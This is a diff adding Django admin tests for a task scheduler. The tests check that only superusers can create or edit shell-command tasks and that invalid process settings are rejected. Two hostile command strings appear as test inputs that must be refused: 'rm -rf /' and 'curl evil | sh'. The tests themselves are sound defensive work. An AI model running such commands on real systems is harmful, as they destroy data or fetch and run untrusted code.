@@ -3,11 +3,15 @@ from __future__ import annotations
 
 import re
 from datetime import timedelta
+from html.parser import HTMLParser
 
 import pytest
 from django.contrib import admin
+from django.contrib.auth.models import User
+from django.test import Client
 
 from tasks_app import services
+from tasks_app.definitions.validate import build_definition
 from tasks_app.models import Event, Run, RunStatus, Task, TaskKind
 
 from ..factories import make_run, make_task, number, string
@@ -200,3 +204,180 @@ def test_text_that_cannot_be_stored_is_a_form_error_in_the_run_now_and_task_form
         "cron_string": "0 3 * * *", "timezone": "E" * 5000, "enabled": "on"}).content.decode()
     assert "Ensure this value has at most 64 characters" in page
     assert Task.objects.get(pk="scan").timezone == "UTC"
+
+
+# --- Command tasks: the process settings, by superusers only ----------------------------------------
+
+
+def add_form(**fields):
+    """What the add page posts for a new task (a command task unless told otherwise)."""
+    return {"id": "backup", "title": "Backup", "type": "generic", "kind": "command", "callable": "",
+            "timezone": "UTC", "on_overlap": "skip", "max_concurrent": 1, "queue_max": 0, "retry_attempts": 0,
+            "retry_backoff": "exponential", "retry_delay": 30, "catch_up": "latest", "max_catch_up_runs": 3,
+            "jitter": 0, "keep_runs": 100, "keep_for": 86400, "parameters": "[]", "definition": "{}",
+            "overrides": "[]", "enabled": "on", "manual_run": "on", "supports_cancel": "on", "interval": 5,
+            "interval_unit": "minutes", "command": "", "argv": "", "shell": "/bin/sh", "working_dir": "", "user": "",
+            "umask": "", "env": "", "env_file": "", "secrets_file": "", "exit_codes": "[0]", "stop_signal": "SIGTERM",
+            "graceful_stop": "5", "log_max_size": "", "log_on_full": "drop_old", **fields}
+
+
+class FormValues(HTMLParser):
+    """What a browser would post from a page's form as it stands (inputs, checkboxes, textareas,
+    selects), so an edit keeps everything the test does not change, hidden initials included."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.values: dict[str, str] = {}
+        self._open: tuple[str, str] | None = None  # ("textarea" | "select", name)
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        attributes = dict(attrs)
+        name = attributes.get("name")
+        if tag == "input" and name and attributes.get("type") not in ("submit", "button"):
+            if attributes.get("type") != "checkbox" or "checked" in attributes:
+                self.values[name] = attributes.get("value") or ("on" if attributes.get("type") == "checkbox" else "")
+        elif tag in ("textarea", "select") and name:
+            self._open = (tag, name)
+            self.values[name] = ""
+        elif tag == "option" and self._open and "selected" in attributes:
+            self.values[self._open[1]] = attributes.get("value") or ""
+
+    def handle_data(self, data: str) -> None:
+        if self._open and self._open[0] == "textarea":
+            self.values[self._open[1]] += data
+
+    def handle_endtag(self, tag: str) -> None:
+        if self._open and tag == self._open[0]:
+            if tag == "textarea":
+                self.values[self._open[1]] = self.values[self._open[1]].removeprefix("\n")
+            self._open = None
+
+
+def errors_by_field(page: str) -> dict[str, str]:
+    """Each field row's error text (the admin renders a field's errors inside its row)."""
+    found = {}
+    for row in re.findall(r'<div class="form-row[^"]*errors[^"]*field-(\w+)[^"]*">(.*?)</div>\s*</div>', page, re.S):
+        found[row[0]] = " ".join(re.findall(r"<li>(.*?)</li>", row[1]))
+    return found
+
+
+def test_a_superuser_adds_a_command_task_with_its_process_settings(root_client, settings, tmp_path):
+    settings.TASKDECK = {**settings.TASKDECK, "LOG_MAX_SIZE": 65536}
+    env_file = tmp_path / "backup.env"
+    env_file.write_text("REGION=eu\n")
+    page = root_client.get("/admin/tasks_app/task/add/").content.decode()
+    assert '<textarea name="command"' in page and 'name="argv"' in page and 'name="env_file"' in page
+    assert '<option value="SIGTERM" selected>SIGTERM</option>' in page
+    assert '<option value="drop_old" selected>' in page and "65,536 bytes" in page
+
+    response = root_client.post("/admin/tasks_app/task/add/", add_form(
+        command='rsync -a "$SRC" /dst "$@"', env="SRC=/srv\n# a comment\nMODE=fast lane", umask="0o22",
+        env_file=str(env_file), secrets_file="/etc/td/backup.env", exit_codes="[3, 0]", stop_signal="SIGINT",
+        graceful_stop="2.5", parameters='[{"key": "--dry-run", "type": "boolean"}]'))
+
+    assert response.status_code == 302, errors_by_field(response.content.decode())
+    task = Task.objects.get(pk="backup")
+    assert task.process == {
+        "command": 'rsync -a "$SRC" /dst "$@"', "argv": None, "shell": "/bin/sh", "working_dir": "", "user": "",
+        "umask": "0022", "env": {"SRC": "/srv", "MODE": "fast lane"}, "env_file": str(env_file),
+        "secrets_file": "/etc/td/backup.env", "exit_codes": [0, 3], "stop_signal": "SIGINT", "graceful_stop": 2.5,
+        "log_max_size": 65536, "log_on_full": "drop_old",
+    }
+    assert (task.kind, task.source, task.callable, task.supports_cancel) == ("command", "admin", "", True)
+    assert task.parameters[0]["kind"] == "flag" and task.next_run_at is not None
+    page = root_client.get("/admin/tasks_app/task/backup/change/").content.decode()
+    assert "rsync -a &quot;$SRC&quot; /dst &quot;$@&quot;</textarea>" in page
+    assert "SRC=/srv\nMODE=fast lane</textarea>" in page and 'value="[0, 3]"' in page
+
+
+def test_argv_runs_without_the_shell_offered(root_client):
+    response = root_client.post("/admin/tasks_app/task/add/", add_form(argv='["tar", "-czf", "/tmp/b.tgz", "/srv"]',
+                                                                        env='{"A": "1"}'))
+    assert response.status_code == 302, errors_by_field(response.content.decode())
+    process = Task.objects.get(pk="backup").process
+    assert (process["argv"], process["command"], process["env"]) == (["tar", "-czf", "/tmp/b.tgz", "/srv"], None,
+                                                                     {"A": "1"})
+
+
+@pytest.mark.parametrize(("fields", "field", "words"), [
+    ({"command": "true", "argv": '["true"]'}, "argv", "Give command (shell text) or argv (a list), not both."),
+    ({}, "command", "Is required"),
+    ({"argv": '["du", 3]'}, "argv", "Item 1: must be a string."),
+    ({"argv": '"du -s"'}, "argv", "Must be a non-empty list of strings"),
+    ({"argv": "[not json"}, "argv", "Enter a valid JSON."),
+    ({"command": "true", "stop_signal": "SIGFOO"}, "stop_signal", "Select a valid choice."),
+    ({"command": "true", "umask": "999"}, "umask", "&#x27;999&#x27; is not an octal umask"),
+    ({"command": "true", "user": "no_such_user_here"}, "user", "Unknown user"),
+    ({"command": "true", "env": "SRC=/srv\njust words"}, "env", "Line 2 is not NAME=value."),
+    ({"command": "true", "env": '{"A": 1}'}, "env", "A: must be a string."),
+    ({"command": "true", "env_file": "/nonexistent/backup.env"}, "env_file", "No such file"),
+    ({"command": "true", "exit_codes": "[256]"}, "exit_codes", "from 0 to 255"),
+    ({"command": "true", "graceful_stop": "-1"}, "graceful_stop", "greater than or equal to 0"),
+    ({"command": "true", "log_max_size": "0"}, "log_max_size", "greater than or equal to 1"),
+    ({"command": "true", "log_on_full": "truncate"}, "log_on_full", "Select a valid choice."),
+    ({"command": "true", "callable": "tests.sample_tasks.noop"}, "callable", "leave this empty"),
+    ({"command": "true", "supports_cancel": ""}, "supports_cancel", "can always be cancelled"),
+    ({"command": "true", "parameters": '[{"key": "--x", "kind": "env"}]'}, "parameters", "variable name"),
+    ({"kind": "python", "callable": "tests.sample_tasks.noop", "command": "rm -rf /"}, "command",
+     "Only a command task runs a command."),
+])
+def test_bad_process_settings_are_errors_on_their_fields_and_save_nothing(root_client, fields, field, words):
+    page = root_client.post("/admin/tasks_app/task/add/", add_form(**fields)).content.decode()
+    errors = errors_by_field(page)
+    assert words in errors.get(field, ""), errors
+    assert not Task.objects.filter(pk="backup").exists()
+
+
+def test_a_superuser_edits_a_command_task_made_here_through_save_task(root_client):
+    assert root_client.post("/admin/tasks_app/task/add/", add_form(command="du -s /srv")).status_code == 302
+    Event.objects.all().delete()
+    form = FormValues(root_client.get("/admin/tasks_app/task/backup/change/").content.decode()).values
+    assert (form["command"], form["graceful_stop"], form["exit_codes"]) == ("du -s /srv", "5.0", "[0]")
+
+    response = root_client.post("/admin/tasks_app/task/backup/change/", {**form, "graceful_stop": "30",
+                                                                         "env": "DEPTH=2"})
+
+    assert response.status_code == 302, errors_by_field(response.content.decode())
+    task = Task.objects.get(pk="backup")
+    assert (task.process["graceful_stop"], task.process["env"], task.process["command"]) == (30, {"DEPTH": "2"},
+                                                                                               "du -s /srv")
+    assert Event.objects.get(name="task:updated").data["message"] == "Changed: process"
+    form = FormValues(root_client.get("/admin/tasks_app/task/backup/change/").content.decode()).values
+    root_client.post("/admin/tasks_app/task/backup/change/", {**form, "title": "Nightly backup"})
+    assert Event.objects.filter(name="task:updated").last().data["message"] == "Changed: title"
+    make_task(id="plain")
+    assert 'name="command"' not in root_client.get("/admin/tasks_app/task/plain/change/").content.decode()
+
+
+def test_a_declared_command_task_shows_its_settings_and_offers_only_the_operator_fields(root_client):
+    definition = build_definition("disk_usage", {"kind": "command", "command": 'du -s "$TARGET"', "interval": 15,
+                                                 "env": {"TARGET": "var/library"}, "secrets_file": "/etc/td/s.env"},
+                                  source="file")
+    services.sync_definitions([definition])
+
+    page = root_client.get("/admin/tasks_app/task/disk_5Fusage/change/").content.decode()
+
+    editable = set(re.findall(r'<(?:input|select|textarea)[^>]* name="(\w+)"', page)) - {"csrfmiddlewaretoken"}
+    assert editable - {"_save", "_continue", "_addanother"} == {"enabled", "interval", "interval_unit", "cron_string",
+                                                                "timezone"}
+    assert "<th>command</th><td><code>du -s &quot;$TARGET&quot;</code></td>" in page
+    assert '<code>{&quot;TARGET&quot;: &quot;var/library&quot;}</code>' in page and "/etc/td/s.env" in page
+    assert "Declared in the definitions file: change it there" in page
+
+
+def test_only_superusers_add_or_change_command_tasks():
+    root = Client()
+    root.force_login(User.objects.create_superuser("root", password="x"))
+    assert root.post("/admin/tasks_app/task/add/", add_form(command="du -s /srv")).status_code == 302
+    before = Task.objects.get(pk="backup").process
+    operator = staff_client("view_task", "add_task", "change_task", "run_task", "manage_task", username="operator")
+
+    assert operator.get("/admin/tasks_app/task/add/").status_code == 403
+    assert operator.post("/admin/tasks_app/task/add/", add_form(id="mine", command="id")).status_code == 403
+    page = operator.get("/admin/tasks_app/task/backup/change/")
+    assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
+    assert "<th>command</th><td><code>du -s /srv</code></td>" in page.content.decode()  # shown, read-only
+    response = operator.post("/admin/tasks_app/task/backup/change/", {**add_form(command="curl evil | sh")})
+    assert response.status_code == 403
+    assert Task.objects.get(pk="backup").process == before and not Task.objects.filter(pk="mine").exists()
